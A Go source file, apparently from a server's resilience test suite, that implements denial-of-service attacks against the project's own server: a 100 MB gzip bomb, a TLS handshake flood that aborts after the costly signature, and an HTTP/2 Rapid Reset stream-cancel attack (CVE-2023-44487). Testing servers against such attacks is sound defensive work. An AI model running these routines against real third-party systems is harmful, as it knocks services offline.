package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// bomb is 100 MB of zeros, compressed.
var bomb = sync.OnceValue(func() string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.CopyN(z, zeros{}, 100<<20)
	_ = z.Close()
	return b.String()
})

type zeros struct{}

// Read implements io.Reader.
func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// handshakes starts TLS handshakes over 32 connections, 200 a second in total. It disconnects when the server has signed. The signature is the
// expensive part.
func handshakes(ctx context.Context, s *server, _ options, under chan<- struct{}) error {
	crowd(ctx, 32, under, func(ctx context.Context, connected func()) error {
		plain, err := (&net.Dialer{}).DialContext(ctx, "tcp", s.Addr())
		if err != nil {
			return err
		}
		defer hold(ctx, plain)()
		connected()
		untrusting := s.secure.Clone()
		untrusting.VerifyConnection = func(tls.ConnectionState) error { return errors.New("the attack ends the handshake here") }
		_ = tls.Client(plain, untrusting).HandshakeContext(ctx)
		wait(ctx, 160*time.Millisecond)
		return nil
	})
	return nil
}

// resets opens HTTP/2 streams and resets them immediately (CVE-2023-44487). It uses 4 connections, 100 streams at a time and at most 2,000 a second.
func resets(ctx context.Context, s *server, _ options, under chan<- struct{}) error {
	crowd(ctx, 4, under, func(ctx context.Context, connected func()) error {
		own := s.secure.Clone()
		own.NextProtos = []string{"h2"}
		conn, err := (&tls.Dialer{Config: own}).DialContext(ctx, "tcp", s.Addr())
		if err != nil {
			return err
		}
		defer hold(ctx, conn)()
		connected()
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return err
		}
		framer := http2.NewFramer(conn, nil)
		if err := errors.Join(framer.WriteSettings(), framer.WriteSettingsAck()); err != nil {
			return err
		}
		for stream := uint32(1); ctx.Err() == nil && stream < 1<<30; {
			for range 100 {
				if err := reset(framer, stream); err != nil {
					return err
				}
				stream += 2
			}
			wait(ctx, 200*time.Millisecond)
		}
		return nil
	})
	return nil
}

func reset(framer *http2.Framer, stream uint32) error {
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "127.0.0.1"}, {":path", "/v1/whoami"}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
		return err
	}
	return framer.WriteRSTStream(stream, http2.ErrCodeCancel)
}
